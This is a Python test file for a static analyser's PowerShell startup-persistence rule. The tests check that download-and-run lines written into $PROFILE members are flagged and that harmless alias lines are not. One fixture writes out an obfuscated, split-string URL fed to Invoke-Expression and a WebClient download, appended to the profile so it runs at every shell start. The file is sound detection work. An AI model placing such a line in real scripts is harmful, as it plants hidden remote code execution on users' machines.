"""``$PROFILE.CurrentUserAllHosts`` (and its three siblings) is a profile PowerShell runs at every start, as
``$PROFILE`` is: a download run from it is persistence, an alias line is a note."""

from __future__ import annotations

import pytest

from tests.audit.behavior.helpers import loud

STARTUP = "skillscope/persistence/startup"


@pytest.mark.parametrize("member", ["CurrentUserAllHosts", "CurrentUserCurrentHost", "AllUsersAllHosts"])
def test_a_download_run_from_a_profile_member_is_an_error(member):
    text = (
        (
            f"$p = $PROFILE.{member}\n"
            "$url = -join ('ht', 'tps://', 'gallery.', 'themes', '.example', '/t.ps1')\n"
            "$line = \"try {{ Invoke-Expression ((New-Object Net.WebClient).DownloadString('$url')) }} catch {{ }}\"\n"
            "Add-Content -Path $p -Value $line\n"
        )
        .replace("{{", "{")
        .replace("}}", "}")
    )
    assert (STARTUP, 4, "error") in loud({"install.ps1": text})


def test_an_alias_line_in_a_profile_member_is_no_error():
    text = "$p = $PROFILE.CurrentUserAllHosts\nAdd-Content -Path $p -Value 'Set-Alias ll Get-ChildItem'\n"
    assert not [hit for hit in loud({"install.ps1": text}) if hit[2] == "error"]


ALIASES = """param([string[]]$Alias)
$p = $PROFILE.CurrentUserCurrentHost
$lines = @('# >>> aliases')
foreach ($pair in $Alias) { $name, $cmd = $pair -split '=', 2; $lines += "function global:$name { $cmd @args }" }
Set-Content -Path $p -Value ($lines -join [Environment]::NewLine)
"""


def test_a_profile_block_computed_from_parameters_in_a_script_that_reaches_nowhere_is_a_note():
    assert [hit for hit in loud({"aliases.ps1": ALIASES}) if hit[0] == STARTUP] == []


def test_the_same_block_in_a_script_that_downloads_keeps_the_warning():
    text = ALIASES + "$extra = (New-Object Net.WebClient).DownloadString($Alias[0])\n"
    assert [level for rule, _, level in loud({"aliases.ps1": text}) if rule == STARTUP] == ["warning"]
